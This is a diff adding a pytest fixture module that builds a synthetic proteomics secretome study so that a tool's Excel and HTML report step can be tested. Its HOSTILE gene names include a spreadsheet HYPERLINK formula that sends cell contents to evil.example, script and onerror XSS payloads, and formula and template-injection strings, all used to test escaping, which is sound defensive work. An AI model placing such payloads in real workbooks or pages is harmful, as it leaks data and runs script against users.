@@ -1,0 +1,219 @@
+"""A made study: every file that the step `report` reads, in the shape of the contract."""
+
+from __future__ import annotations
+
+from collections.abc import Callable
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Any
+
+import numpy as np
+import pandas as pd
+import pytest
+
+from myosieve import files, schema
+from myosieve.report import page
+from myosieve.report.step import report
+
+CLASSES = ("classical", "shed", "gpi_anchored", "annotated", "unconventional", "er_resident", "membrane",
+           "intracellular", "unknown")  # fmt: skip
+HOSTILE = (
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "<script>alert(1)</script>",
+    "</script><img src=x onerror=alert(2)>",
+    "1-Mar",
+    "MARCHF1",
+    "SEPTIN2",
+    "\"quoted\" & 'single'",
+    "\u202eright to left",
+    "\u05d7\u05dc\u05d1\u05d5\u05df",
+    "muscle \U0001f4aa",
+    "+1+1",
+    "@SUM(A1)",
+    "007",
+    "NA",
+    "${{7*7}}",
+)
+
+
+@dataclass
+class Study:
+    """The arguments of `report`, with the paths of the made files."""
+
+    arguments: dict[str, Any]
+
+    @property
+    def xlsx(self) -> Path:
+        return self.arguments["xlsx"]
+
+    @property
+    def html(self) -> Path:
+        return self.arguments["html"]
+
+    def frame(self, name: str, table: schema.Table) -> pd.DataFrame:
+        return files.read_table(self.arguments[name], table)
+
+    def rewrite(self, name: str, frame: pd.DataFrame) -> None:
+        files.write_table(self.arguments[name], frame)
+
+    def told(self) -> dict[str, Any]:
+        return files.read_json(self.arguments["provenance"])
+
+
+def make_study(folder: Path, n_proteins: int = 300, contrasts: tuple[str, ...] = ("eps_vs_rest", "old_vs_young", "1h")):
+    """Write a study of `n_proteins` protein groups; the first ones carry hostile names."""
+    random = np.random.default_rng(7)
+    proteins = _proteins(random, n_proteins)
+    samples = [f"{condition}_{i}" for condition in ("rest", "eps") for i in (1, 2, 3, 4)]
+    conditions = [name.rpartition("_")[0] for name in samples]
+    sheet = pd.DataFrame({"sample": samples, "column": samples, "condition": conditions, "fraction": "secretome"})
+    values = random.normal(25, 2, (n_proteins, 1)) + random.normal(0, 0.4, (n_proteins, len(samples)))
+    values[random.random(values.shape) < 0.08] = np.nan
+    quality = pd.DataFrame({
+        "sample": samples, "condition": conditions, "n_proteins": np.isfinite(values).sum(axis=0),
+        "missing": np.isnan(values).mean(axis=0), "median_log2": np.nanmedian(values, axis=0),
+        "shift": random.normal(0, 0.1, len(samples)), "leak_index": random.normal(0, 0.3, len(samples)),
+        "serum_share": random.uniform(0.01, 0.2, len(samples)), "outlier": [None] * 7 + ["leak index 3 MAD above"],
+    })  # fmt: skip
+    tests = pd.concat([_tests(random, proteins, name) for name in contrasts], ignore_index=True)
+    annotation = proteins[["protein_group", "accession", "gene", "organism"]].assign(
+        **{name: None for name in schema.ANNOTATION.names[4:] if not name.startswith("secretion")},
+        secretion_class=random.choice(CLASSES, n_proteins, p=(0.2, 0.1, 0.03, 0.05, 0.05, 0.05, 0.1, 0.3, 0.12)),
+        secretion_reason="signal peptide 1-22 (embedded scan)",
+    )
+    ranked = pd.concat(
+        [_candidates(random, rows, proteins, annotation) for _, rows in tests.groupby("contrast", sort=False)]
+    )
+
+    folder.mkdir(parents=True, exist_ok=True)
+    quantified = folder / "quantified"
+    quantified.mkdir(exist_ok=True)
+    files.write_table(quantified / "proteins.tsv", schema.QUANTIFIED.arrange(proteins))
+    intensities = pd.DataFrame(values, columns=samples)
+    intensities.insert(0, "protein_group", proteins["protein_group"])
+    files.write_table(quantified / "intensities.tsv", intensities)
+    tables = {
+        "candidates": (schema.CANDIDATES, ranked), "differential": (schema.DIFFERENTIAL, tests),
+        "annotation": (schema.ANNOTATION, annotation), "samples_qc": (schema.SAMPLES_QC, quality),
+        "samples": (schema.SAMPLES, sheet),
+    }  # fmt: skip
+    paths = {name: folder / f"{name}.tsv" for name in tables}
+    for name, (table, frame) in tables.items():
+        files.write_table(paths[name], table.arrange(frame))
+    files.write_json(folder / "provenance.json", _provenance(contrasts))
+    return Study({
+        "study": "made", **paths, "quantified": quantified, "provenance": folder / "provenance.json",
+        "settings": {"fdr": 0.05, "report": {"title": "EPS secretome <made>", "top": 25}},
+        "xlsx": folder / "candidates.xlsx", "html": folder / "report.html",
+    })  # fmt: skip
+
+
+def _proteins(random: np.random.Generator, n: int) -> pd.DataFrame:
+    letters = np.array(list("ABCDEFGHIJKLMNOPRSTUVWXYZ"))
+    genes = ["".join(random.choice(letters, 4)) + str(i % 10) for i in range(n)]
+    genes[: len(HOSTILE)] = HOSTILE
+    accessions = [f"P{i % 100000:05d}" for i in range(n)]
+    return pd.DataFrame({
+        "protein_group": [f"{a};Q{i % 100000:05d}" for i, a in enumerate(accessions)], "accession": accessions,
+        "accessions": accessions, "gene": genes, "protein_name": [f"Made protein {gene}" for gene in genes],
+        "organism": "Homo sapiens", "peptides": random.integers(1, 30, n), "unique_peptides": 1, "decoy": "no",
+        "contaminant": "no", "only_by_site": "no", "excluded_because": None,
+    })  # fmt: skip
+
+
+def _tests(random: np.random.Generator, proteins: pd.DataFrame, contrast: str) -> pd.DataFrame:
+    n = len(proteins)
+    changed = random.random(n) < 0.25
+    fold = random.normal(0, 0.25, n) + changed * random.normal(0.6, 1.1, n)
+    error = random.uniform(0.12, 0.35, n)
+    t = fold / error
+    p = np.minimum(1.0, np.exp(-0.75 * np.abs(t) ** 1.25))
+    order = np.argsort(p)
+    q = np.empty(n)
+    q[order] = np.minimum.accumulate((p[order] * n / np.arange(1, n + 1))[::-1])[::-1]
+    frame = proteins[["protein_group", "accession", "gene"]].assign(
+        contrast=contrast, log2fc=fold, ci_low=fold - 2.2 * error, ci_high=fold + 2.2 * error, se=error, t=t, df=9.3,
+        p_value=p, q_value=q, mean_log2=25.0, n_treatment=4, n_control=4, of_treatment=4, of_control=4,
+        test="moderated_t", note=None,
+    )  # fmt: skip
+    only = frame.index[-max(3, n // 50) :]
+    frame.loc[only, ["log2fc", "ci_low", "ci_high", "se", "t", "df", "p_value", "q_value"]] = np.nan
+    frame.loc[only, ["test", "note"]] = ["detection", "seen in the treatment only"]
+    return frame
+
+
+def _candidates(
+    random: np.random.Generator, tests: pd.DataFrame, proteins: pd.DataFrame, annotation: pd.DataFrame
+) -> pd.DataFrame:
+    n = len(tests)
+    frame = tests[["contrast", "gene", "accession", "protein_group", "log2fc", "ci_low", "ci_high", "q_value", "test",
+                   "n_treatment", "n_control"]].reset_index(drop=True)  # fmt: skip
+    score = np.where(frame["q_value"].fillna(1) < 0.2, random.uniform(0.2, 0.9, n), random.uniform(0.01, 0.3, n))
+    score[: len(HOSTILE)] = 0.99
+    leak = random.choice(np.array(["", "follows leak", "marker"], dtype=object), n, p=(0.8, 0.15, 0.05))
+    excluded = random.choice(np.array(["", "fewer than 2 peptides", "leak marker"], dtype=object), n, p=(0.7, 0.2, 0.1))
+    excluded[: len(HOSTILE)] = ""
+    frame[[name for name in schema.CANDIDATES.names if name not in frame]] = None
+    frame = frame.assign(
+        protein_name=proteins["protein_name"].to_numpy(), peptides=proteins["peptides"].to_numpy(),
+        secretion_class=annotation["secretion_class"].to_numpy(), direction=np.where(frame["log2fc"] < 0, "down", "up"),
+        secretion_reason="signal peptide 1-22 (embedded scan)", score=score, score_experiment=score, score_prior=score,
+        d_effect=random.random(n), d_secretion=random.random(n), leak_flag=leak, excluded_because=excluded,
+    ).replace({"leak_flag": {"": None}, "excluded_because": {"": None}})  # fmt: skip
+    frame.loc[3, "known_myokine"] = "Interleukin-6"
+    frame["reason"] = [
+        f"Log2FC {fold:+.2f} in 8 of 8 samples and a signal peptide carry it; no receptor is known, and its level "
+        f"moves with the leak index (r = {r:.2f})."
+        for fold, r in zip(frame["log2fc"], random.random(n), strict=True)
+    ]
+    keep = frame["excluded_because"].isna()
+    rank = (-score[keep]).argsort(kind="stable").argsort() + 1
+    frame.loc[keep, "rank"] = rank
+    frame.loc[keep, "rank_low"] = np.maximum(1, rank - 3)
+    frame.loc[keep, "rank_high"] = rank + 5
+    frame.loc[~keep, ["score", "score_experiment", "score_prior", "reason"]] = None
+    return frame
+
+
+def _provenance(contrasts: tuple[str, ...]) -> dict[str, Any]:
+    def step(stage: str, settings: dict[str, Any], methods: list[str], warnings: list[str], counts: dict[str, Any]):
+        return {"stage": stage, "myosieve": "0.1.0", "settings": settings, "inputs": {f"{stage}.tsv": "ab" * 32},
+                "methods": methods, "warnings": warnings, "counts": counts, "seeds": {}, "seconds": 0.1}  # fmt: skip
+
+    definitions: dict[str, Any] = {name: {"treatment": "eps", "control": "rest"} for name in contrasts}
+    definitions[contrasts[-1]] = "(eps_old - rest_old) - (eps_young - rest_young)"
+    steps = [
+        step("intake", {"format": "auto", "quantity": "lfq"}, ["The table was read as MaxQuant."], [], {"groups": 300}),
+        step("quantify", {"normalization": "median", "filter": {"min_valid": 2}}, ["Log2 values were shifted."],
+             ["The medians of the conditions differ by 1.2 log2 units: <b>normalization</b> may hide a global change."],
+             {"decoys": 3}),
+        step("differential", {"design": "~ condition", "contrasts": definitions}, ["Moderated t (Smyth 2004)."], [], {}),
+        step("rank", {"fdr": 0.05, "ranking": {"profile": "default"}}, ["Ranked by desirability."], [], {}),
+    ]  # fmt: skip
+    return {
+        "study": "made", "myosieve": "0.1.0", "python": "3.11.7", "libraries": {"numpy": "2.4.6", "plotly": "7.1.0"},
+        "inputs": {"data/proteinGroups.txt": "cd" * 32}, "seeds": {"ranking": 1},
+        "warnings": [text for one in steps for text in one["warnings"]], "steps": steps,
+    }  # fmt: skip
+
+
+@pytest.fixture(scope="session")
+def reported(tmp_path_factory: pytest.TempPathFactory) -> Study:
+    """A study of 300 protein groups and three contrasts with its workbook and page; not to be changed."""
+    made = make_study(tmp_path_factory.mktemp("reported"))
+    report(**made.arguments)
+    return made
+
+
+@pytest.fixture
+def small_study(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Callable[..., Study]:
+    """Make a study of 40 protein groups and one contrast; its page lacks the two libraries, five megabytes to parse."""
+    monkeypatch.setattr(page, "_plotly", str)
+    monkeypatch.setattr(page, "_table_library", str)
+    return lambda name="small": make_study(tmp_path / name, 40, ("eps_vs_rest",))
+
+
+@pytest.fixture
+def hostile_names() -> tuple[str, ...]:
+    """Genes that look like formulas, dates, numbers or markup; every made study has them, ranked first."""
+    return HOSTILE
